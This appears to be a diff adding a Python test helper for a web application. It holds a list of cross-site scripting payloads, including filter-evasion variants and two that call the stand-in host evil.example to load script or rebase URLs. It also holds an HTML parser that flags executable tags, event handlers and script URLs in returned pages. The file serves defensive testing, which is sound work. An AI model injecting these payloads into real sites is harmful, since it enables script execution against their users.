@@ -1,0 +1,124 @@
+"""Hostile input for the tests: XSS payloads, and a checker for executable HTML.
+
+Any test may feed :data:`XSS_PAYLOADS` to a field (search and feeds included, when
+they exist) and pass every page it gets back to :func:`executable_parts`.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+XSS_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" ONERROR="alert(1)">',
+    "<body onload=alert(1)>",
+    '<div onmouseover="alert(1)">hover</div>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:a()">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "![x](javascript:alert(1))",
+    '![x](x" onerror="alert(1))',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<button formaction="javascript:alert(1)">go</button>',
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    '<p style="background:url(javascript:alert(1))">styled</p>',
+    "<img src=x onerror=alert(1)//",
+    "<<script>alert(1);//<</script>",
+    "<details open ontoggle=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<a href='vbscript:msgbox(1)'>vb</a>",
+    "`<script>alert(1)</script>`",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+]
+
+#: Attributes whose value the browser treats as a URL it may navigate to or load.
+_URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "xlink:href",
+    "data",
+    "background",
+    "poster",
+    "cite",
+    "srcset",
+}
+#: Elements that run or embed code wherever they appear.
+_ACTIVE_ELEMENTS = {
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "base",
+    "svg",
+    "math",
+    "style",
+}
+_SPACE_AND_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
+
+
+class _Finder(HTMLParser):
+    """Collect every tag and attribute in a page that a browser would execute."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = {name: value or "" for name, value in attrs}
+        if tag == "script" and values.get("type") != "application/ld+json":
+            self.found.append(f"<script {values}>")
+        if tag in _ACTIVE_ELEMENTS:
+            self.found.append(f"<{tag}>")
+        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
+            self.found.append("<meta http-equiv=refresh>")
+        for name, value in values.items():
+            if name.startswith("on") or name in {"style", "srcdoc"}:
+                self.found.append(f"<{tag} {name}={value!r}>")
+            elif name in _URL_ATTRIBUTES:
+                # Browsers ignore whitespace and control characters in a scheme;
+                # html.parser has already decoded character references.
+                url = _SPACE_AND_CONTROL.sub("", value).lower()
+                if url.startswith(("javascript:", "vbscript:", "data:")):
+                    self.found.append(f"<{tag} {name}={value!r}>")
+
+    handle_startendtag = handle_starttag
+
+
+def executable_parts(html: str) -> list[str]:
+    """Return every script, event handler, active element or script URL in ``html``.
+
+    JSON-LD ``<script type="application/ld+json">`` blocks are data, not code, and
+    are allowed.
+    """
+    finder = _Finder()
+    finder.feed(html)
+    finder.close()
+    return finder.found
